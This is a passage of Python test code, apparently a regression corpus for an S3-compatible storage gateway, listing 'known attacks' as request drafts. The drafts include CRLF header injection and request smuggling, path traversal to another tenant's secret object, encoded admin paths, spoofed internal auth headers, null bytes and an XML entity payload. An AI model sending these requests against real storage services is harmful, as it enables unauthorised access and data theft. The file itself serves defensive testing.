            Case(self.plain, self.changes[:place] + self.changes[place + 1 :]) for place in range(len(self.changes))
        ]


def make_case(seed: str) -> Case:
    """
    Return the case of a seed; one in twenty is a plain request.
    """
    rng = random.Random(seed)
    count = rng.choice((0, *(1,) * 10, *(2,) * 6, *(3,) * 3))
    return Case(f"{seed} plain", tuple(f"{seed} {number}" for number in range(count)))


# Attacks that were found once


def _attacks() -> list[Draft]:
    own, key = b"/" + OWN, b"/" + OWN + b"/k"
    split = escaped(b"x-amz-meta-a: 1\r\n\r\n" + SMUGGLED[:-4] + b"\r\nX-Rest", 1) + b"=7"
    found = []
    for carrier in CARRIERS:
        if carrier.endswith("-form"):
            for name in (
                b"x-amz-meta-a:1\\\rx-backend-injected",
                b"x-amz-meta-a: 1\r\n\r\n" + SMUGGLED,
                b"x-amz-meta-a b",
                b"x-amz-meta-\xff",
                b"x-amz-copy-source",
                b"x-amz-acl\n",
                b"x_amz_acl",
            ):
                draft = Draft(carrier, b"POST", own, body=b"hello", fields=[Field(b"key", b"k"), Field(name, b"7")])
                found.append(draft)
            tagging = b"<!DOCTYPE a [<!ENTITY b 'c'>]><Tagging><TagSet/></Tagging>"
            for fields in ([Field(b"tagging", tagging)], [Field(b"key", b"../%b/secret" % VICTIM)]):
                found.append(Draft(carrier, b"POST", own, body=b"hello", fields=[Field(b"key", b"k"), *fields][-2:]))
            found.append(Draft(carrier, b"POST", b"/", body=b"hello", fields=[Field(b"key", b"k")]))
            continue
        method = b"OPTIONS" if carrier == "preflight" else b"GET"
        payload = "unsigned" if carrier.endswith("query") else "hash"
        for items in (
            [split],
            [b"rgwx-uid=victim"],
            [b"usage"],
            [b"%78-amz-copy-source=%2Fother"],
            [b"X-Amz-Credential=A"],
            [b"AWSAccessKeyId=A", b"Signature=b", b"Expires=1"],
            [b"multipart-manifest=delete"],
            [b"acl", b"%61cl=x"],
            [b"prefix=a;acl"],
        ):
            found.append(Draft(carrier, method, key, list(items), payload=payload))
        for name in (
            b"x_amz_acl",
            b"x_amz_copy_source",
            b"rgwx_uid",
            b"x-object-manifest",
            b"HTTP_X_RGW_AUTH",
            b"Content_Length",
        ):
            draft = Draft(carrier, method, key, headers=[(name, b"/%b/secret" % VICTIM)], payload=payload)
            found.append(draft)
        for path in (
            b"/admin/user",
            b"//admin/user",
            b"/%61dmin/user",
            b"/./swift/v1",
            b"/v1/AUTH_soak",
            key + b"/../../%b/secret" % VICTIM,
            own + b"/%2e%2e/" + VICTIM + b"/secret",
            own + b"%2F..%2F" + VICTIM + b"/secret",
            own + b"/a%0d%0ab",
            own + b"/a%00b",
            b"/",
        ):
            found.append(Draft(carrier, method, path, payload=payload))
        for connection in (b"x-amz-acl", b"close, x-amz-date"):
            headers = [(b"x-amz-acl", b"private"), (b"connection", connection)]
            found.append(Draft(carrier, b"PUT", key, [b"acl"], headers, payload=payload))
        for source in (b"/%b/%%25" % OWN, b"/%b/k%%zz" % OWN, b"/%b/k?versio%%25nId=1" % OWN, b"/:%b/k" % OWN):
            for items in ([], [b"partNumber=1", b"uploadId=a"]):
                headers = [(b"x-amz-copy-source", source)]
                found.append(Draft(carrier, b"PUT", key, items, headers, payload=payload))
        found.append(Draft(carrier, b"POST", b"/", body=b"a=b", payload=payload))
        found.append(Draft(carrier, b"PUT", key, [b"acl"], [(b"x-amz-copy-source", b"/%b/k" % OWN)], payload=payload))
    return found


ATTACKS = _attacks()
"""
Known attacks that split requests, reached private interfaces or changed operations, with each carrier.
"""
